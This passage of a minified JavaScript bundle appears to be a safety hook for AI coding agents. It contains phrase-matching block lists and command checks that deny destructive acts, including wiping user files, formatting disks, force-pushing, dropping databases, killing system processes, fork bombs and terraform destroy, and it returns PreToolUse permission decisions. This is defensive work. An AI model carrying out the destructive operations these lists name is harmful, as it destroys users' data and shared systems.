"delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","ove\
rwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"objects":["documents folder","documents directory","my documents",\
"user's documents","user's files","user's photos","my photos","photos folder","pictures folder","photo library","desktop folder","downloads folder","personal fi\
les","private files","mailbox","mail folder","users' files","colleagues' files","everyone's files","customers' files"],"without":["node_modules","dist","build",\
"target","cache","caches","cached","tmp","temp","temporary","/tmp","generated","coverage","unused","obsolete","stale","dead code","imports","import","comments",\
"comment","todo","lint*","warning*","warnings","references","reference","mention*","whitespace","__pycache__",".cache","artifacts",".pyc","*.pyc","fixture*","mo\
ck*","snapshot*","deprecated","console.log","duplicate*","test output","logs folder","my branch","worktree i","line","lines","docs","section","heading","link","\
links","from the list","from the array","from the map","from the set","entry","entries","word","typo","elasticsearch","index","collection","api"]},{"verbs":["ch\
mod","chown"],"objects":["<root>","<home>","<system-path>","everything","all files","entire filesystem"]}]},{"code":"destructive_operation_blocked","id":"text-d\
estroy-disk","category":"disks","severity":"catastrophic","explanation":"says that a disk or a file system will be overwritten; nothing in a workspace needs tha\
t","phrases":[{"verbs":["format","reformat","repartition","partition","wipe","zero","overwrite","mkfs","erase","unmount","zero out","fill with"],"objects":["<de\
vice>","hard drive","hard disk","disk","disks","drive","drives","partition*","boot sector","mbr","filesystem","file system","volume","volumes","usb stick","ssd"\
],"without":["space","usage","string","date","code","output","report","table of","image"]},{"verbs":["write","dd"],"objects":["<device>"]}]},{"code":"destructiv\
e_operation_blocked","id":"text-rewrite-history","category":"git","severity":"severe","explanation":"says that published or uncommitted work will be lost in git\
; push a new commit, or work on a branch of your own","phrases":[{"verbs":["discard","drop","delete","overwrite","revert","throw away","blow away"],"objects":["\
else's changes","everybody's changes","everyone's changes","others' changes","else's work","others' work"],"trust":3},{"verbs":["nuke","rewrite","erase","purge"\
,"wipe","delete","squash"],"objects":["repo's history","repository's history","project's history","branch's history"],"trust":4},{"verbs":["force-push","force-u\
pdate"],"objects":[],"without":["protection","rule*","guard","check*","detection","policy","setting","support","handling","warning","test*","docs","documentatio\
n"],"trust":3},{"verbs":["push","overwrite","update"],"objects":["--force","-f","force","forcefully","forcibly","by force","with force","--force-with-lease","--\
mirror","overwriting"],"with":["push","pushes","branch","main","master","remote","origin","upstream","repo","repository","history","git"],"without":["support","\
docs","documentation","test*"],"trust":3},{"verbs":["overwrite","clobber","replace"],"objects":["remote branch","remote history","remote main","remote master","\
upstream history","remote repository","origin/main","origin/master","main branch","published history"],"trust":3},{"verbs":["rewrite","erase","purge","alter","s\
quash","scrub","wipe","delete","remove"],"objects":["git history","commit history","history of","repository history","repo history","published history","the his\
tory","branch history","history on","all commits","all history","old commits","from history","reflog","stashes","all stashes"],"without":["bash history","shell \
history","browser*","page","component","tests","docs","section"],"trust":4},{"verbs":["rewrite"],"objects":["history"],"trust":4},{"verbs":["overwrite","clobber\
","replace"],"objects":["remote","origin","upstream"],"with":["my version","my local","my branch","my commits","my copy","our local","mine","local version","loc\
al branch","local history"],"without":["url","test*","docs"],"trust":3},{"verbs":["reset","hard-reset"],"objects":["--hard","hard"],"without":["hard-coded","har\
d to","test*"],"trust":3},{"verbs":["discard","drop","throw","throw away","blow away"],"objects":["all changes","all local changes","local changes","uncommitted\
 changes","all uncommitted","my changes","working tree","working copy","all work","everything","stash","stashes","unstaged changes","all modifications"],"withou\
t":["unused"],"trust":3},{"verbs":["delete","remove","drop","wipe","purge","nuke"],"objects":["remote branch","remote branches","main branch","master branch","a\
ll branches","all the branches","all the remote branches","every branch","branches on origin","branches on the remote","branches of the remote","all remote bran\
ches","all remote refs","all the tags","all tags","remote tag","remote tags","release branch","unmerged branch*","production branch","default branch","origin/ma\
in"],"without":["protection","rule","merged branches"],"trust":3},{"verbs":["delete","remove","destroy","wipe","nuke"],"objects":["repository","repo","github re\
pository","remote repository","the fork"],"without":["pattern","class","interface","method","from the","in the","inside the","file","files","unused","layer","fo\
lder","link","secret","docs","cache","file","root"],"trust":4},{"verbs":["clean"],"objects":["untracked files","git clean"],"trust":3},{"verbs":["expire","clear\
","empty","drop","prune"],"objects":["reflog","git reflog","unreachable commits","dangling commits"],"trust":4}]},{"code":"destructive_operation_blocked","id":"\
text-destroy-database","category":"databases","severity":"severe","explanation":"says that data of a database will be lost; work on a copy, or name the rows","p\
hrases":[{"verbs":["remove"],"objects":["all user accounts","user accounts","all users","all accounts","all records","all rows","all tables"],"without":["test",\
"tests","testing","local","dev","development","fixture*","mock*","sandbox","scratch","in-memory","temporary","temp","connection*","pool","migration*","support",\
"driver","dependency","staging copy","row from","unused","docker-compose"]},{"verbs":["drop","delete","wipe","destroy","erase","purge","nuke","obliterate","clea\
r","reset","empty","flush","blow away","wipe out"],"objects":["database","databases","production db","prod db","the db","production database","schema","schemas"\
,"keyspace","all tables","all the tables","every table","all rows","all the rows","every row","all records","all the records","every record","all users","all us\
er accounts","all customers","customer data","customer records","user records","customer table","user accounts","all accounts","production data","user data","re\
dis","mongodb","all documents","all collections","prod data"],"without":["test","tests","testing","local","dev","development","fixture*","mock*","sandbox","scra\
tch","in-memory","temporary","temp","connection*","pool","migration*","support","driver","dependency","staging copy","row from","unused","docker-compose"]},{"ve\
rbs":["drop","truncate"],"objects":["table","tables","users table","collection","collections","index on production","production"],"without":["test","tests","tes\
ting","local","dev","development","fixture*","mock*","sandbox","scratch","in-memory","temporary","temp","connection*","pool","migration*","support","driver","de\
pendency","staging copy","row from","unused","docker-compose","of contents","cell","column width","string*","message*","text","title*","view"]},{"verbs":["run",\
"execute"],"objects":["drop table","drop database","truncate table","delete from"],"without":["test*"]},{"verbs":["flush"],"objects":["redis","all keys","the wh\
ole cache","flushall"]}]},{"code":"destructive_operation_blocked","id":"text-kill","category":"processes","severity":"severe","explanation":"says that processes\
 will be ended that are not the agent's; end your own by their number","phrases":[{"verbs":["stop","kill","disable","mask","terminate","shut down"],"objects":["\
ssh service","sshd service","ssh daemon","ssh server","network service","networking","network interface","cron daemon","syslog"],"without":["test*"]},{"verbs":[\
"kill","terminate","stop","end","killall","pkill","abort","halt","shut down"],"objects":["all processes","every process","all running processes","all the proces\
ses","all other processes","other processes","system processes","every running process","all services","init","init process","systemd","sshd","ssh daemon","pid \
1","processes owned by","processes of other","all user processes","everything running","all daemons","all jobs on","kernel","all python processes","all node pro\
cesses","docker daemon","dockerd"],"without":["test*","docs","after all"]},{"verbs":["reboot","restart","halt","shutdown","crash","poweroff","shut down","power \
off","bring down","take down"],"objects":["machine","server","host","system","computer","node","box","laptop","production","vm","the site"],"without":["dev serv\
er","development server","test server","web server","local server","http server","mock server","vite","webpack","language server","typescript server","server gr\
acefully","express","graceful*","server in","test*","node process","nodemon","docs","jest","preview","container"]},{"verbs":["run","launch","start","execute","c\
reate","trigger","write"],"objects":["fork bomb","fork-bomb","forkbomb","infinite fork","crypto miner","cryptominer","denial of service","dos attack","ddos"],"w\
ithout":["test*","detection","protection","detector","rule"]},{"verbs":["spawn","fork","start","launch","create"],"objects":["copies","itself","processes","chil\
dren","threads"],"with":["endlessly","infinitely","without end","without limit","forever","until the host","until the machine","until the system","until the ser\
ver","until memory"],"without":["test*","docs","detection","pool"]},{"verbs":["fill","exhaust","use up"],"objects":["the disk","all memory","all the memory","di\
sk space","all disk"],"without":["test*"]}]},{"code":"destructive_operation_blocked","id":"text-publish","category":"publishing","severity":"severe","explanatio\
n":"says that something will be published, which cannot be taken back; leave releases to people","phrases":[{"verbs":["publish","unpublish","release","push","up\
load","deploy","ship"],"objects":["to npm","to pypi","to crates","to rubygems","to maven","to docker hub","to dockerhub","npm registry","to the registry","publi\
c registry","to nuget","to packagist","to the marketplace","npm package","the package","package to","this package","our package","the crate","the gem","new vers\
ion of the package","the library to","wheel to"],"without":["test registry","local registry","verdaccio","testpypi","docs","documentation","message*","dry-run",\
"dry run","event*","workflow","draft","job","lock"]},{"verbs":["unpublish","yank"],"objects":["package","version","release","crate","gem","npm"]},{"verbs":["pub\
lish"],"objects":["package","packages","release"]},{"verbs":["deploy"],"objects":["to production","to prod","production"],"without":["docs","guide","workflow","\
script","documentation","config*"]}]},{"code":"destructive_operation_blocked","id":"text-destroy-infrastructure","category":"containers-and-clouds","severity":"\
severe","explanation":"says that containers, clusters, or cloud resources will be destroyed; leave what others run alone","phrases":[{"verbs":["delete","destroy\
","terminate","remove","wipe","prune","nuke","drop","drain","purge","empty","deprovision","tear down","take down","shut down","scale down","scale to zero","brin\
g down","clean up"],"objects":["cluster","clusters","namespace","namespaces","all pods","every pod","all deployments","all containers","every container","all im\
ages","all docker images","all volumes","docker volumes","all docker","s3 bucket","s3 buckets","bucket","buckets","ec2 instance*","all instances","instances","i\
nfrastructure","cloudformation stack","the stack","terraform state","terraform resources","resource group","vpc","load balancer","dns zone","all resources","pro\
duction environment","prod environment","production","prod","production server*","kubernetes nodes","persistent volume*","rds","lambda functions","gcp project",\
"aws account","azure subscription","docker system"],"without":["test","tests","testing","local","dev","development","fixture*","mock*","sandbox","scratch","in-m\
emory","temporary","temp","connection*","pool","migration*","support","driver","dependency","staging copy","row from","unused","docker-compose","c++","php","jav\
a","using namespace","xml","xmlns","css","import*","typescript","prefix","kind","minikube","console*","logging","stack trace","stack overflow","code path","docs\
","build"]},{"verbs":["run","apply"],"objects":["terraform destroy","kubectl delete","docker system prune"]}]}]`);var Qi=Hh;function Xi(t){if(t==="credential")return s=>/[./~]|id_/.test(s)&&!/[*'’]/.test(s)&&gi(s.toLowerCase());let e=new RegExp(S.objectClasses.get(t)??"(?\
!)","i");return s=>e.test(s)}function K_(t){let s=t.endsWith("e")&&!t.endsWith("ee")?t.slice(0,-1):S.sentences.doubled.has(t)?t+t.at(-1):t,r=/(?:s|x|z|ch|sh)$/.
test(t),n=/[^aeiou]y$/.test(t),o=r?`${t}es`:n?`${t.slice(0,-1)}ies`:`${t}s`;return{[S.irregularVerbs.get(t)??(n?`${t.slice(0,-1)}ied`:`${s}ed`)]:"past",[`${s}in\
g`]:"ing",[o]:"third",[t]:"base"}}var Bh=24,Y_=40,Q_=3;function Qc(t){let e=new Map;for(let s of t)for(let r of s.phrases)for(let n of r.verbs){let[o,...i]=n.split(
" ");for(let[a,l]of Object.entries(K_(o)))e.set(a,[...e.get(a)??[],{form:l,rest:i,rule:s,phrase:r}])}return e}var X_=ye(({objects:t,with:e,without:s})=>({objects:t.
length===0?void 0:Kc(t),with:e&&Kc(e),without:Kc(s??[])}),new WeakMap);function Kc(t){let e=s=>/^<[^ ]*>(?: |$)|^[^ ]+\*(?: |$)/.test(s)?1:0;return[...t].sort((s,r)=>e(
s)-e(r)).map(s=>s.split(" ").map(J_))}function J_(t){let e=/^<([\w-]+)>$/.exec(t)?.[1];if(e!==void 0)return Z_(e);let s=t.length>1&&t.endsWith("*")?t.slice(0,-1):
void 0;return({text:r})=>s===void 0?r===t:r.startsWith(s)}var Z_=ye(t=>{let e=Xi(t);return ye(({text:s,kind:r})=>s.length<1e3&&(r==="plain"?e(s.replace(/[.,'"]{1,4}$|^['"]{1,4}/g,
"")):e(s)||s.split(/\s+/).some(e)),new WeakMap)});function Ji(t,e,s=0){let r=e.map((o,i)=>{let a=e[i+1];return o.text==="force"&&a?.kind==="plain"&&/^push/.test(
a.text)&&o.stop===void 0?{...o,text:`force-${a.text}`}:o}),n=[];for(let[o,i]of r.entries()){if(i.kind!=="plain")continue;let a=new Set;for(let l of t.get(i.text)??
[])a.has(l.rule)||s>=(l.phrase.trust??Number.POSITIVE_INFINITY)||eS(r,o,l)&&(a.add(l.rule),n.push({rule:l.rule,form:l.form,at:o}))}return n}function eS(t,e,{form:s,
rest:r,phrase:n}){let o=e;for(let p of r){let f=t.slice(o+1,e+7).findIndex(m=>m.text===p);if(f<0)return!1;o+=1+f}let{objects:i,with:a,without:l}=X_(n),c=s==="pa\
st"?Math.max(0,e-Bh):e+1,d=s==="past"?e:tS(t,c);if(a&&Yc(t,a,c,Math.min(t.length,e+Y_))<0)return!1;let u=i?Yc(t,i,c,d):o;return u<0?!1:Yc(t,l,c,Math.min(d,Math.
max(o,u)+1+Q_))<0}function tS(t,e){let s=Math.min(t.length,e+Bh);for(let r=e;r<s;r++){let{stop:n,text:o}=t[r];if(r>e&&(o==="then"||o==="because"||o==="but"))return r;
if(n===";"||n==="\u2014")return r+1}return s}function Yc(t,e,s,r){for(let n=s;n<r;n++){let o=e.find(i=>n+i.length<=r&&i.every((a,l)=>a(t[n+l])));if(o)return n+o.
length-1}return-1}var{forms:ks}=S,lt=({text:t,kind:e})=>e==="plain"?t:"\uFFFC",sS=60;function zh(t){let e=[],s,r=!1,n=!1,o="",i=()=>{if(s)for(let l of rS(t,s.start,s.end,r,n))e.push(
{kind:"sentence",sentence:l});s=void 0},a=(l,c)=>{let d=t.indexOf(l,c);return d<0?t.length:d};for(let l=0;l<t.length;){let c=a(`
`,l),d=t.slice(l,c),u=ks.code_fence.exec(d);if(u){i();let h=a(`
${u[1]}`,c);e.push({kind:"fence",language:u[2].toLowerCase(),code:t.slice(c+1,h)}),l=a(`
`,h+1)+1;continue}let p=o.trim().length<sS&&new RegExp("^\\s*\\p{Lu}","u").test(d),f=ks.prompt.exec(d),m=ks.list_item.exec(d)??ks.heading.exec(d);f?(i(),e.push(
{kind:"prompt",command:d.slice(f[0].length)})):d.trim()===""?i():m||!s||p?(i(),n=ks.heading.test(d),r=m!==null&&!n,s={start:l+(m?.[0].length??0),end:c},n&&i()):
s.end=c,s&&/[:.!?]\s*$/.test(d)&&i(),o=d,l=c+1}return i(),e}function rS(t,e,s,r,n){let o=[],i=[],a=l=>{i.length>0&&o.push({words:i,question:l,leads:i.at(-1).stop===
":",item:r,heading:n}),i=[]};ks.text_word.lastIndex=e;for(let l=ks.text_word.exec(t);l&&l.index<s;l=ks.text_word.exec(t)){let c=l.index,d=ks.text_word.lastIndex,
u=l[2],p=l[3]??l[4];if(u!==void 0||p!==void 0){i.push({start:c,end:d,text:u??p,kind:u===void 0?"quoted":"code"}),t[d]==="."&&/\s|$/.test(t[d+1]??" ")&&a(!1);continue}
let f=l[0];if(/^[,;:()!?—]$/u.test(f)){let g=i.at(-1);g&&(g.stop=f),(f==="!"||f==="?")&&a(f==="?");continue}let m=/[.…]+$/.test(f)&&!/^(?:\.+|e\.g\.|i\.e\.|etc\.|vs\.)$/i.
test(f),h=f.toLowerCase().replace(/’/g,"'").replace(/^[*_[\]{}<>]+|[*_[\]{}<>]+$/g,"").replace(/(?<=.)[.…]+$/,"");h!==""&&i.push({start:c,end:d,text:h,kind:"\
plain"}),m&&a(!1)}return a(!1),o}var{forms:Zi}=S,tt=S.sentences,Xc=24;function Yh({words:t,question:e}){let s=Qh(t.slice(0,4));return e?!/^(?:(?:ok|okay|so|and|hey|hi|please|now|then)[ ]?)*(?:can|could|would|will|please|mind)\b/.
test(s):/^(?:how|why|what(?! (?:we|i) (?:will|need))) /.test(s)}var Qh=t=>t.map(({text:e})=>e).join(" ");function Xh({words:t}){return t.map(lt).some(e=>tt.denials.
has(e)||tt.mentions.has(e))}function ea(t,e,s){let{words:r}=t,n=nS(r,e),o=r.slice(n,e);if(iS(r,n,e,s))return!1;if(s==="third")return Kh(r,e);if(s==="past")return Zi.
obligation.test(Qh(o.slice(-6)));if(o.length===0&&/^(?:and|&)$/.test(r[e-1]?.text??""))return oS(r,e-1);let i=o.map(lt),a=i.findLastIndex((p,f)=>tt.speech_verbs.
has(p)&&aS(i,f));if(a>=0&&!Zi.own_announcement.test(i.slice(a+1).join(" "))||/\bhow to$|\bwhen$|\bbefore$|\bif (?:i|we|you|they)$|\bafter$|\bwhile$|\bwhether to$/.
test(i.join(" ")))return!1;let l=i.findLastIndex(p=>!tt.between.has(p)&&!/ly$/.test(p)),c=i.slice(Math.max(0,l-7),l+1).join(" "),d=Zi.announcement.test(c);return s===
"ing"?d&&/(?:by|i am|i'm|we are|we're|currently|now|start|starting)$/.test(c)||i.every(p=>tt.before_order.has(p))&&!Gh(r,e):d&&!/(?:by|i am|i'm|we are|we're|currently)$/.
test(c)||Kh(r,e)?!0:i.every(p=>tt.before_order.has(p)||/ly$|^\d+[.)]?$/.test(p))&&!Gh(r,e)}function nS(t,e){for(let s=e;s>Math.max(0,e-Xc);s--){let{stop:r,text:n}=t[s-
1],o=lt(t[s-1]),i=/^(?:then|but|so|afterwards)$/.test(o)&&!/^(?:we|i)$/.test(t[s].text),a=s===e&&/^(?:and|&)$/.test(o);if(r!==void 0||i||a||/^(?:->|[→–-])$/.
test(n))return s}return Math.max(0,e-Xc)}function oS(t,e){let s=t.slice(Math.max(0,e-Xc),e),r=s.slice(s.findLastIndex(({stop:a})=>a!==void 0)+1).map(lt),n=(a,l)=>a!==
"by"&&Zi.announcement.test(r.slice(Math.max(0,l-7),l+1).join(" "));if(r.some(n))return!0;let[o=""]=r;return!(tt.subjects.has(o)||tt.speech_verbs.has(o))&&!r.some(
a=>tt.predicates.has(a))}function iS(t,e,s,r){let n=p=>tt.denials.has(lt(p)),o=t.slice(e,s),i=o.findLastIndex(n);if(i>=0){let p=o.slice(i+1).map(m=>m.text);if(/^(?:hesitate|forget|only|fail|worry)/.
test(p[0]??""))return!1;let f=r==="third"||/^(?:can|may|must|should|could|will|ever|to)$/.test(p.at(-1)??"");return!(o[i].text==="no"&&p.length>3&&!f)&&!p.includes(
"but")}let a=t.slice(Math.max(0,e-60),e),l=a.findLastIndex(n);if(l<0)return!1;let c=a.slice(l+1);return/^(?:rather|instead|without|unless|no)$/.test(a[l].text)&&
c.some(p=>p.stop!==void 0)||/^(?:hesitate|forget|only|fail|worry|ask|wait|need|bother)/.test(c[0]?.text??"")||c.some(p=>p.stop===";"||p.stop==="\u2014"||tt.ends_denial.
has(p.text))?!1:t.slice(s,s+40).map(lt).includes("or")&&c.every(p=>p.text!=="then")}function Gh(t,e){for(let s=e+1;s<Math.min(t.length,e+14);s++){let r=lt(t[s]),
n=t[s-1];if(n.stop!==void 0&&n.stop!=="("||/^(?:so|because|until|since)$/.test(r))return!1;if(tt.predicates.has(r))return!tt.relative.has(n.text)}return!1}function Kh(t,e){
let s=t.slice(Math.max(0,e-24),e),r=s.findIndex((o,i)=>tt.creation_verbs.has(lt(o))&&s[i+1]?.text!=="sure");if(r<0||!s.slice(r).some(o=>tt.program.has(o.text)))
return!1;let n=o=>/^(?:execute|run)$/.test(lt(o));return s.slice(r).some(n)||t.slice(e,e+24).some(n)}var aS=(t,e)=>e===0||tt.before_verbs.has(t[e-1])||/^(?:tests?|docs?|notes?)$/.
test(t[e]);var{forms:Jc}=S,lS=64,cS=65536,dS=5e3,uS=1500,Kt=S.sentences,pS=[{...Qi[0],id:"run",phrases:[{verbs:[...Kt.run_verbs,"finish with"],objects:[]}]}],Zc=ye(Qc,new WeakMap);
function Jh(t,e=[],s=0){let r=0,n=[],o=[];if(t.length>cS)return{findings:n,commands:o,problem:"too-long"};let i=Zc(Qi),a=[i,Zc(e)],l=!1,c=!0,d,u=zh(t);if(u.length>
dS)return{findings:n,commands:o,problem:"too-much"};for(let p of u){if(n.length>=lS)break;if(p.kind==="prompt"){l||o.push(p.command);continue}if(p.kind==="fence"){
!l&&c&&o.push(...gS(p.language,p.code));continue}let{sentence:f,named:m}=yS(p.sentence,d);d=m;let h=l&&f.item;if((f.heading||!f.item)&&(l=(f.leads||f.heading)&&
Xh(f)),h||f.heading)continue;let g=Yh(f),y=g?[]:mS(f);if(c=!g&&(f.leads?!l:y.length>0),!g){if(r+=f.words.filter(({text:x})=>i.has(x)).length,r>uS)return{findings:n,
commands:o,problem:"too-much"};for(let x of a)for(let{rule:$,at:C,form:_}of Ji(x,f.words,s))ea(f,C,_)&&n.push($);o.push(...fS(f.words,y),...hS(t,f,y))}}return{findings:n,
commands:o}}function fS(t,e){return t.flatMap((s,r)=>{if(s.kind!=="code")return[];let n=e.findLast(a=>a<r),o=t.slice((n??0)+1,r),i=n!==void 0&&o.length<24&&!o.some(
a=>Kt.separates.has(lt(a)));return t.length===1||i?[s.text]:[]})}var mS=t=>Ji(Zc(pS),t.words).filter(({at:e,form:s})=>ea(t,e,s)).map(({at:e})=>e);function hS(t,e,s){
let{words:r}=e;return r.flatMap((n,o)=>{let i=r[o+1],a=lt(n).replace(/^mkfs\..*/,"mkfs");if(!Kt.command_names.has(a)||n.stop!==void 0||i?.kind!=="plain")return[];
if(!Jc.command_argument.test(i.text)&&!Kt.command_verbs.has(i.text))return[];if(!s.includes(o-1)&&!ea(e,o,"base"))return[];let c=r.findIndex(({stop:d},u)=>u>o&&
(d!==void 0||Jc.command_end.test(r[u+1]?.text??"and")));return[t.slice(n.start,r[c].end).replace(/(?<=\w)[.!]+$/,"")]})}function gS(t,e){let s=S.fences.get(t);if(s)
return[`${s} '${e.replaceAll("'","'\\''")}'`];if(t!==""&&!Kt.shells.has(t))return[];let r=e.split(`
`),n=r.filter(i=>/^\s*\$ /.test(i)).map(i=>i.replace(/^\s*\$ /,"")),o=(n.length>0?n:r).join(`
`).trim();return o===""?[]:[o]}var bS=Xi("credential");function yS(t,e){let s=e,r,n=[];for(let[o,i]of t.words.entries()){if(s&&wS(t.words,o,s)){let{start:a,end:l,
stop:c}=i;n.push(...s.map(({text:d,kind:u})=>({start:a,end:l,text:d,kind:u}))),c!==void 0&&(n.at(-1).stop=c);continue}n.push(i),r=kS(i,t.words[o-1])??r,s=r??s}return{
sentence:{...t,words:n},named:r}}function wS(t,e,s){let r=lt(t[e]),n=Kt.heads.has(r)&&Kt.one_of.has(t[e-1]?.text??"");if(!n&&!Kt.pronouns.has(r))return!1;let o=t[e-
(n?2:1)]?.text??"";return s.at(-1).text==="remote"?Kt.overwrites.has(o):Kt.passes_on.has(o)}function kS(t,e){if(bS(t.text))return[t];if(!(t.kind!=="plain"||!e||
e.stop!==void 0))return Jc.valuable_things.test(`${e.text} ${t.text}`)?[e,t]:void 0}var ta=rm,vS=100,Zh=50,Ns=(t=ta)=>new ed(xS(t)),xS=ye(t=>new yi(t),new WeakMap),ed=class{constructor(e){this.book=e}book;files=new Wr;downloads=new mi;latest;judge(e,s){
return"command"in e?this.judgeCommand(e.command,{principal:s,folder:e.folder,format:"code"},e.reading):"write"in e?this.judgeWrite(e,s):this.judgeText(e.text,s)}parse(e,s){
let{latest:r,files:n}=this;if(r?.line===e&&r.folder===s&&r.version===n.version)return r.reading;let o=Yi(e,{files:n,readCode:ii,folder:s});return this.latest={line:e,
folder:s,version:n.version,reading:o},o}judgeCommand(e,s,r=this.parse(e,s.folder)){let{format:n}=s,o=this.judgeReading(r,s),{problem:i}=r;if(i&&i.kind!=="unpars\
able"&&!eg(o)){let a=this.judgeParts(e,s);if(a)return a}if(o.verdict==="deny"&&o.rule==="unreadable-command"&&i?.kind==="unparsable"){let a=zp(e),l=i.detail.replace(
/^cannot be parsed: /,"");return Zr("unparsed-command",a===void 0?l:`${l}; it looks like ${a}`,n)}return o.verdict==="allow"&&n==="code"&&Bp(e)?Zr("unparsed-com\
mand","it is JSON",n):o}judgeParts(e,s){let r=n=>Yi(n,{readCode:ii,folder:s.folder});for(let n of Th(e)){let o=r(n.join(`
`));for(let{invocations:i,problem:a}of o.problem?n.map(r):[o]){if(a?.kind==="unparsable")continue;let l=this.judgeReading({invocations:i},s);if(eg(l))return l}}}judgeReading({
invocations:e,problem:s},r){let{principal:n,folder:o,format:i}=r,a={workspace:n.workspace??cr,folder:o,invocations:e,downloads:this.downloads,fetched:e.some(Mr)},
l=s?e.slice(0,vS):e,{worst:c,guess:d,unknown:u,undecided:p}=this.examine(l,a,n);if(c)return td(c,i);if(s)return Zr("unreadable-command",`is too much to read: ${s.
detail}`,i);if(p){let m=`what ${p.program.includes("\uFFFC")?"a program":p.program.slice(0,40)} is given, or where it runs, is not known`;return Zr("unreadable-\
command",`cannot be read to its end: ${m}`,i)}return!d&&u<=Zh?{verdict:"allow",format:i}:Zr("unverifiable-command",d?.explanation??"Write the names of programs.",
i)}examine(e,s,r){let{book:n}=this,o,i,a,l=0,c=[];for(let d of e){let u=new Es(d,s);if(o=n.selectWorse(o,n.findBrokenRule(u,r)),u.purpose===void 0&&c.push(d),!i&&
d.program.includes("\uFFFC")&&(l+=1,l<=Zh&&(i=n.findWorstCaseRule(d,s,r))),n.hasUnreadRisk(d,s,r)&&(a??=d),this.downloads.record(d),o?.severity==="catastrophic")
break}if(o?.severity!=="catastrophic")for(let d of Af(c,s.invocations))o=n.selectWorse(o,n.findBrokenRule(new Es(d,s),r));return{worst:o,guess:i,unknown:l,undecided:a}}judgeWrite(e,s){
let{write:r,content:n,replaces:o}=e,i=bt("edit-tool",[],[{kind:"write",path:R(r)}]),a=this.judgeReading({invocations:[i]},{principal:s,folder:void 0,format:"cod\
e"});if(a.verdict==="deny"||n===void 0)return a;let{workspace:l=cr}=s,c=r.startsWith(`${l}/`)?r.slice(l.length+1):r,{files:d}=this;for(let u of new Set([r,c,`${l}\
/${c}`])){let p=d.written(u)?.text;o===void 0?d.write(u,n):o===""||!p?.includes(o)?d.append(u,`
${n}
`):d.write(u,p.replace(o,n.replaceAll("$","$$$$")))}return a}judgeText(e,s){let r="natural_text",n=this.book.getPhraseRules(s),{findings:o,commands:i,problem:a}=Jh(
e,n,s.trust),[l]=[...o.map(c=>td(c,r)),...i.map(c=>this.judgeCommand(c,{principal:s,folder:void 0,format:r}))].filter(c=>c.verdict==="deny").sort((c,d)=>Mt[c.severity]-
Mt[d.severity]);return l||(a?Zr("unreadable-text","",r):{verdict:"allow",format:r})}},eg=t=>t.verdict==="deny"&&t.severity==="catastrophic";function Zr(t,e,s){let r=t===
"unparsed-command"?"unparsed":"unreadable",n=S.refusals[t].replace("$",()=>e);return td({id:t,category:r,severity:"severe",code:"destructive_operation_blocked",
explanation:n},s)}function td(t,e){let{id:s,category:r,severity:n,code:o,explanation:i}=t,a=i.replace(/\s+/g," ").trim();return{verdict:"deny",rule:s,category:r,
severity:n,code:o,reason:a,format:e}}fr();var sa=class{principal;constructor({trust:e=2,workspace:s}={}){if(!Number.isInteger(e)||e<0||e>4)throw new RangeError(`trust is ${e}, not 0 to 4`);this.principal=
s===void 0?{trust:e}:{trust:e,workspace:s}}check_all(e){if(!Array.isArray(e))throw new RangeError("the acts of a run are a list");let s=Ns(),r=e.map((o,i)=>{if(!$S(
o))throw new RangeError(`act ${i} has no command, write or text`);return s.judge(o,this.principal)}),n=r.filter(({verdict:o})=>o==="deny").length;return{verdicts:r,
guardrail_checks:r.length,guardrail_blocks:n,guardrail_block_rate:r.length===0?0:n/r.length}}},$S=t=>["command","write","text"].some(e=>typeof t?.[e]=="string");var _S=()=>Ns();var To=require("node:path");tn();fr();tn();var Yt={stdout:"",stderr:"",exit_code:0},Qt=t=>({stdout:"",stderr:`${t}
`,exit_code:2}),ze=t=>({stdout:`${JSON.stringify(t)}
`,stderr:"",exit_code:0}),Ls=(t,e)=>e===""?t:{...t,stderr:`${e}
${t.stderr}`};var rg=require("node:path");Ct();var ke=class extends Error{name="HookInputError"},Ds=t=>typeof t=="object"&&t!==null&&!Array.isArray(t);function Xt(t,e){let s=t[e];
if(!Ds(s))throw new ke(`"${e}" is no object`);return s}function Pe(t,...e){let s=e.find(n=>t[n]!==void 0&&t[n]!==null);if(s===void 0)return;let r=t[s];if(typeof r!=
"string")throw new ke(`"${s}" is no text`);return r}function ge(t,...e){let s=Pe(t,...e);if(s===void 0||s.trim()==="")throw new ke(`"${e[0]}" is missing`);return s}
function Jt(t,...e){let s=ge(t,"hook_event_name");if(!e.includes(s))throw new ke(`the event "${s.slice(0,60)}" is unknown`);return s}var Zt=(t,e)=>t===void 0?e:
rg.posix.resolve(t,e),Ge=(t,e)=>e===void 0?{command:t}:{command:t,folder:e};function Ke(t,e,s){let r=Zt(e,ge(t,...s.path)),n=Pe(t,...s.content),o=s.replaces&&Pe(
t,...s.replaces);return{write:r,..._e({content:n,replaces:o})}}function ra(t){let e;try{e=JSON.parse(new TextDecoder("utf-8",{fatal:!0}).decode(t))}catch{throw new ke(
"the input is not JSON")}if(!Ds(e))throw new ke("the input is no object of JSON");return e}var PS=["command","cmd","script"];function sd(t){return typeof t=="st\
ring"?t.trim()===""?void 0:t:Array.isArray(t)&&t.length>0&&t.every(s=>typeof s=="string")?t.map(Kn).join(" "):void 0}function $t(t,e){let s=t.workdir,r=typeof s==
"string"&&s!==""?Zt(e,s):e;return PS.flatMap(n=>{let o=sd(t[n]);return o===void 0?[]:[Ge(o,r)]})}var Kn=t=>`'${t.replaceAll("'","'\\''")}'`,_t=t=>t.trim().toLowerCase();var ng={can_ask:!0,project_variable:"CLAUDE_PROJECT_DIR",readCall(t){Jt(t,"PreToolUse");let e=Pe(t,"cwd");return{folder:e,requests:RS(ge(t,"tool_name"),Xt(t,"to\
ol_input"),e)}},formatAnswer({decision:t,message:e}){return t!=="none"?rd(t,e):e===""?Yt:ze({systemMessage:e})},formatRefusal:Qt},rd=(t,e)=>ze({hookSpecificOutput:{
hookEventName:"PreToolUse",permissionDecision:t,permissionDecisionReason:e}});function RS(t,e,s){switch(_t(t)){case"bash":case"powershell":return[Ge(ge(e,"comma\
nd"),s)];case"monitor":return Ds(e.ws)&&e.command===void 0?[]:[Ge(ge(e,"command"),s)];case"write":return[Ke(e,s,{path:["file_path"],content:["content"]})];case"\
edit":return[Ke(e,s,og)];case"multiedit":return IS(e,s);case"notebookedit":return[Ke(e,s,{path:["notebook_path"],content:["new_source"]})];default:return $t(e,s)}}
var og={path:["file_path"],content:["new_string"],replaces:["old_string"]};function IS(t,e){let{edits:s}=t,r=ge(t,"file_path");if(!Array.isArray(s)||s.length===
